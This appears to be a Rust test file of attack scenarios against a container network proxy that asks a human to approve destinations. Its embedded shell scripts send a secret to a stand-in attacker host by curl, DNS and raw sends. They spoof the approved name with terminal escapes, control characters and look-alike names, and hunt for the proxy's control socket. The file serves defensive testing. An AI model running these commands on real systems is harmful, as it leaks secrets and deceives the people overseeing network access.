//! Somebody approves what a container asks for: with that it is to get what was shown, and no more.

use crate::row::{APPROVED, Counts, Meanwhile, ROW, Row, Trace};

pub(crate) const ROWS: &[Row] = &[
    Row {
        name: "an_approval_stretched_to_more_than_it_is_for",
        attack: "a name is asked for until somebody approves it; then the secret is sent to the attacker's address in that name, \
                 to names below it, to other ports and by other protocols",
        defence: "an approval is a rule for exactly the name and port that were shown; where the name leads, the proxy finds out itself",
        script: |scene| {
            let (address, secret, waits) =
                (scene.target_in_urls(), &scene.secret, until_approved());
            format!(
                "{waits}
                 for port in 80 8080 22; do
                   curl -g -s -m 3 --resolve {APPROVED}:$port:{address} http://{APPROVED}:$port/{secret}
                   curl -g -s -m 3 --resolve {secret}.{APPROVED}:$port:{address} http://{secret}.{APPROVED}:$port/{secret}
                 done
                 curl -g -ks -m 3 --resolve {APPROVED}:443:{address} https://{APPROVED}/{secret}
                 attacker dns udp {address}:53 {secret}.{APPROVED}
                 attacker send tcp {address}:80 {secret}
                 attacker send udp {address}:443 {secret}",
                            )
        },
        meanwhile: Meanwhile::SomebodyApproves,
        counts: Counts::AtTheAttackers,
        recorded: Some(Trace::Secret),
        ..ROW
    },
    Row {
        name: "an_attempt_that_looks_like_a_harmless_one",
        attack: "names of the attacker's with terminal escapes, line ends, letters that look alike, words of rules and marks of \
                 direction, and 500 names that push out what was seen, while somebody approves whatever reads as the harmless name",
        defence: "only names of plain ASCII are shown, escaped, and an ID is a hash of all that its rule says",
        script: |scene| {
            let (address, secret, waits) =
                (scene.target_in_urls(), &scene.secret, until_approved());
            let names = [
                r"evil.test\033[2K\033[1A",
                r"\r",
                r"evil.test\n",
                r"\342\200\256",
                r"evil.test port=80 domain=",
                r"evil.test,",
                r"evil.test\t",
                r"\303\240",
                r"xn--",
                r"evil.test@",
            ];
            let names = names.map(|name| format!("'{name}'")).join(" ");
            format!(
                "say() {{ for name in {names}; do
                   host=$(printf \"$name\"){APPROVED}
                   curl -g -s -m 3 -H \"Host: $host\" http://{address}/{secret}
                   curl -g -s -m 3 -X \"$host\" http://{address}/$host/{secret}
                 done; }}
                 say
                 for number in $(seq 500); do attacker dns udp {address}:53 n$number.evil.test; done > /dev/null
                 {waits}
                 say
                 attacker send tcp {address}:80 {secret}",
                            )
        },
        meanwhile: Meanwhile::SomebodyApproves,
        counts: Counts::AtTheAttackers,
        seconds: 180,
        ..ROW
    },
    Row {
        name: "an_approval_of_the_containers_own",
        attack: "every Unix socket that the container can find, and where the host has the gateway's, asked to approve; then the secret is sent",
        defence: "the control socket is in a directory of the host's that no container has, for root's callers alone",
        script: |scene| {
            let (address, secret) = (scene.target_in_urls(), &scene.secret);
            format!(
                "for socket in $(find / -path /proc -prune -o -type s -print 2> /dev/null) /run/boundary/*/control /proc/*/root/run/boundary/*/control; do
                   curl -s -m 2 --unix-socket $socket http://localhost/
                 done
                 curl -g -s -m 5 --resolve {APPROVED}:80:{address} http://{APPROVED}/{secret}
                 attacker send tcp {address}:80 {secret}"
            )
        },
        recorded: Some(Trace::Secret),
        ..ROW
    },
];

/// Waits until the name is approved.
fn until_approved() -> String {
    format!(
        "for attempt in $(seq 60); do curl -s -m 2 -o /dev/null http://{APPROVED}/ && break; sleep 0.3; done"
    )
}
